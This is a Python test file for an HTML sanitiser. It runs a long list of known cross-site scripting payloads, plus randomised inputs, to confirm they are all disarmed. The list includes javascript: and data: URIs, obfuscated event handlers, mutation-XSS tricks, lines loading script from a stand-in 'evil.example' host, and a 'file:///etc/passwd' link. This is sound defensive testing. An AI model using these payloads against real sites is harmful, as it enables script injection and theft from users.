"""Nothing that an author writes can act on the site: known attacks, then random ones."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from each import each
from tremplin.text.sanitise import PREFIX, clean_html, local_link

ACTIVE = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "button", "textarea",
    "select", "option", "base", "meta", "link", "svg", "math", "template", "noscript", "portal",
    "dialog", "marquee", "xmp", "plaintext", "title", "frameset", "body", "html", "head", "slot",
}  # fmt: skip
ADDRESSES = {"href", "src", "cite", "poster", "action", "formaction", "data", "srcset", "background"}
IDS = {"id", "for", "name", "headers", "aria-describedby", "aria-labelledby"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.I)
SCHEMES = {"http", "https", "mailto", "tel"}


class Reader(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def dangers(html: str) -> list[str]:
    """What could act in `html`."""
    found = []
    for tag, attributes in Reader(html).tags:
        if tag in ACTIVE:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            # what a browser skips before it reads a scheme
            scheme = SCHEME.match(re.sub(r"[\x00-\x20]", "", value))
            if name.startswith(("on", "data-", "xlink", "hx-")) or name in {"style", "srcdoc", "is", "slot"}:
                found.append(name)
            if name in ADDRESSES and scheme and scheme[1].lower() not in SCHEMES:
                found.append(f"{name}={value}")
            if name in IDS and not all(part.startswith(PREFIX) for part in value.split()):
                found.append(f"{name}={value}")
    return found


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    '<script/src="data:text/javascript,alert(1)"></script>',
    '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
    "<script\r\n>alert(1)</script\t>",
    "<img src=x onerror=alert(1)>",
    '<img src=x OnErRoR = "alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="x`<script>alert(1)</script>"` `>',
    '<img """><script>alert("XSS")</script>"\\>',
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<img src=x srcset="javascript:alert(1) 1x">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="javascript://example.org/%0Aalert(1)">x</a>',
    '<a onmouseover="alert(1)">x</a>',
    '<a href=x ping="https://evil.example">x</a>',
    '<a href="x" target="_blank" onclick=alert(1)>x</a>',
    "<body onload=alert(1)>",
    '<body background="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math href="javascript:alert(1)">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    '<p id="</p><img src=x onerror=alert(1)>">',
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
    '<input type="image" src="javascript:alert(1)">',
    '<input type="text" onfocus=alert(1) autofocus>',
    '<input type="hidden" name="x">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<button form="f" formaction="javascript:alert(1)">x</button>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    '<video poster="javascript:alert(1)"></video>',
    '<audio src="data:audio/x,1" onloadstart=alert(1)></audio>',
    '<track src="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="data:text/html,x">x</q>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<isindex action="javascript:alert(1)">',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "<p onclick\x00=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "<p on\x0bclick=alert(1)>x</p>",
    '<p data-module="quiz" data-answer="x">x</p>',
    '<x-element is="x">x</x-element>',
    '<a id="tremplin"></a><a id="tremplin" name="config" href="x"></a>',
    '<img name="cookie"><img name="getElementById"><form name="body"></form>',
    '<p id="a b">x</p><label for="theme">x</label><input name="answer" type="radio">',
    '<td headers="a b" id="document">x</td>',
    '<p aria-labelledby="x" aria-describedby="a b">x</p>',
    '<p id="&#x20;__proto__">x</p>',
    '<p id="">x</p><p id=" ">x</p>',
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '"><img src=x onerror=alert(1)>',
    "</p></div></body></html><script>alert(1)</script>",
]


@each("attack", ATTACKS)
def test_an_attack_is_disarmed(attack: str) -> None:
    cleaned = clean_html(attack)
    assert dangers(cleaned) == []
    assert dangers(f"<p>{cleaned}</p>") == []


def test_a_sign_of_a_tag_stands_in_no_attribute() -> None:
    # what reads the cleaned HTML by its tags relies on it
    cleaned = clean_html("""<a title='<img src="x">' href="a>b<c">d</a>""")
    assert re.sub("<[^<>]*>", "", cleaned) == "d"


@each("attack", ATTACKS)
def test_cleaned_html_has_nothing_left_to_change_but_its_prefixes(attack: str) -> None:
    """What a browser would read again in another way (mutation) would show here."""
    once = clean_html(attack)
    assert clean_html(once).replace(PREFIX * 2, PREFIX) == once


def test_the_detector_sees_the_attacks() -> None:
    assert dangers('<p onclick="x" style="y"><a id="z" href="java\tscript:x">') == [
        "onclick", "style", "id=z", "href=java\tscript:x",
    ]  # fmt: skip
    assert dangers("<script></script><svg/>") == ["<script>", "<svg>"]


@pytest.mark.parametrize("tag", ["script", "style"])
def test_the_text_of_a_script_goes_with_it(tag: str) -> None:
    assert clean_html(f"a<{tag}>alert(1)</{tag}>b") == "ab"


@pytest.mark.parametrize(
    "html",
    [
        "<p>Un <strong>mot</strong>, <em>deux</em>, <code>trois</code>.</p>",
        '<a href="https://example.org/?a=1&amp;b=2">x</a>',
        '<a href="mailto:aide@example.org">x</a>',
        '<a href="tel:+33353010022">x</a>',
        '<a href="../objet/index.html">x</a>',
        '<img src="images/a.webp" alt="Un plan" width="3" height="4" loading="lazy">',
        '<ol start="3"><li>x</li></ol>',
        '<table><thead><tr><th scope="col">a</th></tr></thead></table>',
        '<details open=""><summary>a</summary><p>b</p></details>',
        '<input type="checkbox" disabled="" checked="">',
        '<p lang="en" dir="ltr" class="note">x</p>',
        '<abbr title="Curriculum vitæ">CV</abbr>',
        "<p>L’été, « 1\u00a0h\u202f30 » &lt;b&gt; &amp; ☕</p>",
    ],
)
def test_what_a_text_needs_stays(html: str) -> None:
    assert Reader(clean_html(html)).tags == Reader(html).tags
    assert re.sub("<[^>]*>", "", clean_html(html)).replace("&nbsp;", "\u00a0") == re.sub("<[^>]*>", "", html)


def test_a_label_and_its_field_get_the_same_prefix() -> None:
    html = clean_html('<label for="a">x</label><input type="radio" id="a" name="g">')
    assert dict(Reader(html).tags) == {
        "label": {"for": "s-a"},
        "input": {"type": "radio", "id": "s-a", "name": "s-g"},
    }


@pytest.mark.parametrize(
    ("href", "link"),
    [
        ("#note", "#s-note"),
        ("#", "#"),
        ("objet/", "objet/index.html"),
        ("../", "../index.html"),
        ("..", "../index.html"),
        (".", "./index.html"),
        ("objet/#note", "objet/index.html#s-note"),
        ("objet/?a=1#note", "objet/index.html?a=1#s-note"),
        ("a.pdf", "a.pdf"),
        ("a.html#b", "a.html#s-b"),
        ("https://example.org/#b", "https://example.org/#b"),
        ("//example.org/", "//example.org/"),
        ("/objet/", "/objet/"),
        ("mailto:a@b.fr", "mailto:a@b.fr"),
        ("", ""),
        (" objet\\\n", "objet/index.html"),
        ("\\\\example.org", "//example.org"),
        ("java\tscript:alert(1)", None),
        ("https:objet/", None),
    ],
)
def test_a_link_works_on_any_host_and_from_a_disk(href: str, link: str | None) -> None:
    assert local_link(href) == link


@pytest.mark.parametrize(
    ("html", "name"),
    [
        ('<a href="cv.pdf" download="x.exe">', ""),
        ('<a href="outil.txt" download="Mon-cours.html">', ""),
        ('<a download="setup.hta" href="../outil.txt">', ""),
        ('<a href="cv.pdf?x.exe#x.exe" download="x.exe">', ""),
        ('<a href="cv.pdf" download="x.pdf.">', ""),
        ('<a href="cv.pdf" download="x\u202efdp.exe">', ""),
        ('<a title="> href=x.exe" href="cv.pdf" download="x.exe">', ""),
        ("<a title=' href=\"x.exe\"' download=x.exe href=cv.pdf>", ""),
        ('<a href="cv.pdf" download>', ""),
        ('<a download="x.exe">', ""),
        ('<a href="fichiers/cv-2026.PDF" download="Mon CV.pdf">', "Mon CV.pdf"),
        ('<a href=cv.pdf download="l\'&eacute;t&eacute;.pdf">', "l'été.pdf"),
    ],
)
def test_a_download_keeps_the_real_ending(html: str, name: str) -> None:
    ((_, attributes),) = Reader(clean_html(html + "x</a>")).tags
    assert attributes["download"] == name


@given(st.text(), st.text())
def test_no_download_takes_another_ending(name: str, title: str) -> None:
    quoted = (text.replace("&", "&amp;").replace('"', "&quot;") for text in (title, name))
    ((_, attributes),) = Reader(clean_html('<a title="{}" href="a.txt" download="{}">'.format(*quoted))).tags
    assert attributes["download"] == "" or attributes["download"].lower().endswith(".txt")


# ---- properties

PIECES = st.sampled_from(
    ["<", ">", "/", "=", '"', "'", "`", " ", "\t", "\n", "\x00", "&#x6a;", "&colon;", "&Tab;", "javascript:",
     "data:text/html,", "script", "style", "svg", "math", "img", "a", "p", "form", "input", "template",
     "table", "mglyph", "mtext", "noscript", "title", "textarea", "iframe", "<!--", "-->", "]]>", "<![CDATA[",
     "onerror", "onclick", "id", "name", "href", "src", "srcdoc", "x", "alert(1)", "</p>", "</", "/>",
     "#", ":"]
)  # fmt: skip
SOUP = st.lists(PIECES, max_size=40).map("".join)


@given(SOUP | st.text())
def test_nothing_dangerous_survives(html: str) -> None:
    assert dangers(clean_html(html)) == []


@given(st.text(), st.sampled_from(["href", "src", "cite", "poster", "id", "name", "onclick", "style"]))
def test_no_value_escapes_its_attribute(value: str, name: str) -> None:
    quoted = value.replace("&", "&amp;").replace('"', "&quot;")
    for tag in ("a", "img", "video", "q", 'input type="checkbox"'):
        cleaned = clean_html(f'<{tag} {name}="{quoted}">')
        assert dangers(cleaned) == []
        assert [t for t, _ in Reader(cleaned).tags] == [tag.partition(" ")[0]]
